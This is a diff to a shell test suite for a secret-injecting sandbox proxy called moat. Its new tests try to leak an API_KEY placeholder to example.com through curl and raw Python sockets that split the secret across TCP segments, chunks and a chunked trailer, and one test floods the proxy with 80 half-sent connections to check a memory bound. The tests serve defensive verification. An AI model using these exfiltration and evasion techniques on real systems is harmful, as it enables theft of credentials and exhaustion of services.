@@ -270,6 +270,105 @@ out=$(insb "sed '/END CERTIFICATE/q' \$SSL_CERT_FILE >/tmp/w.pem; $C --cacert /t
 assert_no_match "$out" "authorised" "its handshake fails: moat's leaf is not the world's"
 assert_ne "$(icnt client_tls_failed_total)" 0 "... counted"
 
+t_begin "plain HTTP: a placeholder in a body is refused as in a head"
+l0=$(icnt leaks_refused_total)
+# (the one sent inside TLS to a name not intercepted, above, arrived)
+a0=$(grep 'placeholder arrived' "$WORLD_DIR/srv-inet.log")
+out=$(insb "$C -i --data \"k=\$API_KEY\" http://example.com/leak20")
+assert_match "$out" "X-Moat-Denied: secret-leak" "a Content-Length body: 403, X-Moat-Denied: secret-leak"
+out=$(insb "printf 'xx%s' \"\$API_KEY\" | $C -i -H 'Transfer-Encoding: chunked' --data-binary @- http://example.com/leak21")
+assert_match "$out" "X-Moat-Denied: secret-leak" "a chunked body: refused"
+# pl CHUNKED: a request to http://example.com/leak22 on a raw socket, its
+# body carrying the placeholder after 14 bytes; Content-Length written 5
+# bytes at a time, or chunked with the placeholder split across two chunks
+# sent apart; after a first request that passes on the same connection
+pl() { insb "python3 - $1 <<'EOF'
+import os, socket, sys, time
+s = socket.create_connection(('example.com', 80), timeout=5)
+s.sendall(b'GET /fine-first HTTP/1.1\r\nHost: example.com\r\n\r\n')
+first = s.recv(4096).decode(errors='replace')
+ph = os.environ['API_KEY'].encode()
+body = b'x' * 14 + ph
+if sys.argv[1] == 'chunked':
+    s.sendall(b'POST /leak22 HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n')
+    a, b = body[:30], body[30:]
+    s.sendall(b'%x\r\n%s\r\n' % (len(a), a))
+    time.sleep(0.2)
+    s.sendall(b'%x\r\n%s\r\n0\r\n\r\n' % (len(b), b))
+else:
+    req = b'POST /leak22 HTTP/1.1\r\nHost: example.com\r\nContent-Length: %d\r\n\r\n' % len(body) + body
+    for i in range(0, len(req), 5):
+        s.send(req[i:i + 5])
+        time.sleep(0.002)
+try:
+    print(first.split('\r\n')[0], s.recv(4096).decode(errors='replace'))
+except OSError as e:
+    print(first.split('\r\n')[0], 'error', e)
+EOF"; }
+out=$(pl length)
+assert_match "$out" "^HTTP/1.1 200" "split across TCP segments, after a first request: the first passes"
+assert_match "$out" "X-Moat-Denied: secret-leak" "... the one with the placeholder refused"
+out=$(pl chunked)
+assert_match "$out" "X-Moat-Denied: secret-leak" "split across two chunks sent apart: refused"
+out=$(insb "python3 - <<'EOF'
+import os, socket, time
+s = socket.create_connection(('example.com', 80), timeout=5)
+ph = os.environ['API_KEY'].encode()
+s.sendall(b'POST /leak23 HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\nX-T: ' + ph[:20])
+time.sleep(0.2)
+s.sendall(ph[20:] + b'\r\n\r\n')
+print(s.recv(4096).decode(errors='replace'))
+EOF")
+assert_match "$out" "X-Moat-Denied: secret-leak" "in a chunked body's trailer, split: refused"
+assert_eq "$(grep 'placeholder arrived' "$WORLD_DIR/srv-inet.log")" "$a0" "no placeholder reached the server"
+assert_eq "$(grep -c '/leak2[01]' "$WORLD_DIR/srv-inet.log")" 0 "... nor the requests whose body was read whole before they went"
+assert_eq "$(icnt leaks_refused_total)" "$((l0 + 5))" "each refusal counted"
+assert_eq "$(nlogs "$SB" '.reason == "secret-leak" and .secret == "API_KEY" and .proto == "http"')" 6 "each logged with the secret's name (and the head's before)"
+# the same bodies without a placeholder pass
+assert_match "$(insb "$C --data 'k=hello' http://example.com/fine-body")" "path: /fine-body" "a plain-HTTP body without a placeholder passes (control)"
+assert_match "$(insb "printf 'xx%s' hello | $C -H 'Transfer-Encoding: chunked' --data-binary @- http://example.com/fine-chunked")" "path: /fine-chunked" "... chunked too"
+assert_match "$(insb "$C --data-binary @/etc/services http://example.com/fine-large")" "path: /fine-large" "... and a body of several reads"
+
+t_begin "the worker's memory stays bounded: many intercepted connections, each with a body held half sent"
+# 80 connections each send 1000000 bytes of a 1048576-byte body to the
+# secret's host (buffered, to replace in it) and stop there: at most 16
+# are taken, the rest refused, and the worker grows by under the
+# documented 64 MiB (without the bound: 80 MB of bodies alone, and the
+# TLS buffers)
+wpid=$(m inspect "$SB" --json | jq -r .supervisor.worker.pid)
+rss() { awk '/^VmRSS:/ { print $2 }' "/proc/$wpid/status"; }
+rss0=$(rss)
+ref0=$(icnt refused_total)
+insb "python3 - <<'EOF'
+import socket, ssl, time
+ctx = ssl.create_default_context()
+held, refused = [], 0
+for i in range(80):
+    try:
+        s = ctx.wrap_socket(socket.create_connection(('api.github.com', 443), timeout=5), server_hostname='api.github.com')
+        s.sendall(b'POST /auth HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 1048576\r\n\r\n' + b'a' * 1000000)
+        held.append(s)
+    except (OSError, ssl.SSLError):
+        refused += 1
+print('held', len(held), 'refused', refused, flush=True)
+time.sleep(10)
+EOF
+" >"$WORLD_DIR/mem.out" 2>&1 &
+mempid=$!
+wait_for 90 grep -q '^held' "$WORLD_DIR/mem.out"
+rss1=$(rss)
+assert_match "$(cat "$WORLD_DIR/mem.out")" "^held 16 refused 64" "16 connections taken, the other 64 refused"
+# under AddressSanitizer every allocation has redzones and shadow, and
+# what is freed waits in a quarantine: three times the bound there (80
+# connections held would still pass it by far)
+bound=65536
+ldd "$MOAT" 2>/dev/null | grep -q libasan && bound=$((3 * bound))
+assert_ok -m "the worker grew by under $((bound / 1024)) MiB (VmRSS ${rss0:-?} -> ${rss1:-?} KiB)" test "$((rss1 - rss0))" -lt "$bound"
+assert_ne "$(icnt refused_total)" "$ref0" "... the refusals counted"
+assert_match "$(m logs "$SB" 2>&1 | grep 'api.github.com' | grep -c 'connection-limit')" "^[1-9]" "... and logged"
+wait "$mempid"
+assert_eq "$(insb "$C -H \"X-Api-Key: \$API_KEY\" https://api.github.com/auth")" "authorised via header" "once they are gone, a request to the secret's host succeeds (control)"
+
 t_begin "moat run: the caller's variable is not the command's"
 out=$(in_host env MOAT_TEST_TOKEN="$VALUE" MOAT_UPSTREAM_CA="$WORLD_CA" "$MOAT" run -q --policy "$WORLD_DIR/sec.yaml" -- sh -c "env; $C https://www.example.com/auth 2>&1" 2>&1)
 assert_match "$out" "authorised via bearer" "the secret from moat run's environment reaches its host"
@@ -277,7 +376,9 @@ assert_eq "$(grep -cF "$VALUE" <<<"$out")" 0 "the command's environment has only
 
 t_begin "metrics"
 out=$(m stats "$SB" --prometheus 2>&1)
-assert_match "$out" "moat_proxy_intercept_secrets_API_KEY_injected_total" "Prometheus: injections per secret"
+assert_match "$out" "moat_proxy_intercept_secret_injected_total\\{sandbox=\"$SB\",secret=\"API_KEY\"\\} [1-9]" "Prometheus: injections per secret, the name a label"
+assert_match "$out" "moat_proxy_intercept_secret_leaks_refused_total\\{sandbox=\"$SB\",secret=\"API_KEY\"\\} [1-9]" "... leaks refused per secret"
+assert_no_match "$out" "API_KEY_|TOKEN_" "... no secret's name in a metric's name"
 assert_match "$out" "moat_proxy_intercept_leaks_refused_total" "... leaks refused"
 assert_match "$out" "moat_proxy_secret_leak_total" "... among the proxy's reasons"
 assert_ok -m "moat stats (text) shows the sandbox" m stats "$SB"
